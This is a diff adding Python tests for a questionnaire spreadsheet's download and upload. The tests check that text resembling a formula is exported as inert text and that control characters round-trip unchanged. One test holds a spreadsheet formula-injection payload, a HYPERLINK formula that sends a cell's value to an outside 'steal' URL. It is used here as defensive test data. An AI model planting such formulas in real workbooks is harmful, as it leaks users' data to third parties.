@@ -222,3 +222,60 @@ def test_a_workbook_with_a_cell_far_away_is_refused_without_exhausting_memory(
     assert peak < 100 * 1024 * 1024
     assert refusal in page.replace("&#x27;", "'")
     assert state(draft) == before
+
+
+def sheet_xml(raw: bytes) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        return "".join(
+            archive.read(name).decode()
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/")
+        )
+
+
+def test_researcher_text_that_looks_like_a_formula_is_downloaded_as_text_and_uploads_unchanged(
+    researcher_client, cast, draft, answer_of
+):
+    formula = '=HYPERLINK("http://example.org/steal?"&A1,"Details")'
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", formula, []), cast["researcher"])
+    source = add_source(draft, SourceFields(title="=x", kind="law"), cast["researcher"])
+    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
+    book = load_workbook(io.BytesIO(raw))
+    before = state(draft)
+
+    assert "<f>" not in sheet_xml(raw)
+    assert row_of(book["Answers"], "1.1.1")[5].value == formula
+    assert row_of(book["Answers"], "1.1.1")[5].quotePrefix
+    assert row_of(book["Sources"], f"S{source.pk}")[1].value == "=x"
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook holds no change." in page
+    assert state(draft) == before
+
+
+def test_a_new_source_typed_as_a_formula_keeps_its_text(researcher_client, draft):
+    book = download(researcher_client, draft)
+    book["Sources"].append(["N1", "=x", "law", "", "", ""])  # a formula cell, as typed
+    row_of(book["Answers"], "1.1.1")[6].value = "N1"
+
+    page = upload(researcher_client, draft, book)
+
+    assert "1 new sources" in page
+    assert Source.objects.get(assessment=draft).title == "=x"
+
+
+def test_a_justification_with_control_characters_downloads_and_round_trips(
+    researcher_client, cast, draft, answer_of
+):
+    text = "First page\x0cSecond page\x07, a _x000C_ written out, and\r\nWindows lines"
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
+    book = download(researcher_client, draft)
+    row_of(book["Answers"], "1.1.2")[4].value = "complete"
+
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook is applied: 1 answers" in page
+    assert answer_of("1.1.1").justification == text
+    assert answer_of("1.1.1").version == 2
